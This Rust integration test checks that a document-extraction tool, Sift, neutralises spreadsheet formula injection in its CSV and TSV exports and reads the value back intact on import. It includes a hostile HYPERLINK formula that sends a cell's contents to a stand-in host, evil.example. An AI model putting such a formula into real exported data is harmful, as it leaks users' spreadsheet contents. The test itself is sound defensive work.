//! A value a spreadsheet would run as a formula (a model's answer read
//! from a hostile document) leaves Sift as text, in the job's CSV and in
//! a labelled set's TSV alike, and a set's import reads it back as it
//! was; a number stays a number.

use std::path::PathBuf;

use serde_json::{Value, json};
use sift_core::eval::{export_set, get_set, import_set, set_from_job};
use sift_core::extract::job_export::{ExportFormat, export_results};
use sift_core::extract::{NewJob, check_value, start_job};
use sift_scripted_server::{Reply, Script, ScriptedServer};

use crate::sessions::app_workspace;
use crate::{TempDir, selection};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

fn schema() -> Value {
    json!({
        "type": "object",
        "properties": {
            "vendor": {"type": "string"},
            "total": {"type": "number"},
        },
        "required": ["vendor", "total"],
    })
}

#[tokio::test]
async fn a_formula_is_exported_as_text_and_a_set_imports_it_as_it_was() {
    let dir = TempDir::new("formulas");
    let server = ScriptedServer::start(Script::new().with(
        "m",
        [Reply::tool_call(
            "submit_output",
            json!({"vendor": FORMULA, "total": -5}),
        )],
    ))
    .await
    .unwrap();
    let ws = app_workspace(&dir, Some(&server));
    let doc: PathBuf = dir.0.join("invoice.txt");
    std::fs::write(&doc, "Invoice\n").unwrap();
    // As the open dialog grants the file it returned.
    ws.grants().grant_read(&doc);
    let job = NewJob {
        schema_name: "invoice".into(),
        schema: schema(),
        prompt: None,
        files: vec![doc.clone()],
        selection: selection(&server, &["m"]),
        concurrency: 1,
        provider_id: None,
        ocr_languages: None,
        answers: None,
    };
    let (view, run) = start_job(&ws, job, |_| {}).unwrap();
    run.await.unwrap();

    let csv = dir.0.join("out.csv");
    ws.grants().grant_file(&csv);
    export_results(&ws, &view.job_id, ExportFormat::Csv, &csv, false).unwrap();
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        format!(
            "file,vendor,total,status,error\r\n{},\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",-5,completed,\r\n",
            doc.display()
        )
    );

    let store = ws.store().unwrap();
    check_value(&store, &view.job_id, 0, "vendor").unwrap();
    check_value(&store, &view.job_id, 0, "total").unwrap();
    set_from_job(&store, &view.job_id, "checked").unwrap();
    let tsv = dir.0.join("checked.tsv");
    ws.grants().grant_file(&tsv);
    export_set(&ws, "checked", &tsv).unwrap();
    assert_eq!(
        std::fs::read_to_string(&tsv).unwrap(),
        format!(
            "file\tvendor\ttotal\n{}\t\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"\t-5\n",
            doc.display()
        )
    );

    store.save_schema("invoice", &schema()).unwrap();
    import_set(&store, "again", &tsv, "invoice", None).unwrap();
    let truth = &get_set(&store, "again").unwrap().documents[0].truth;
    assert_eq!(json!(truth), json!({"vendor": FORMULA, "total": "-5"}));
}
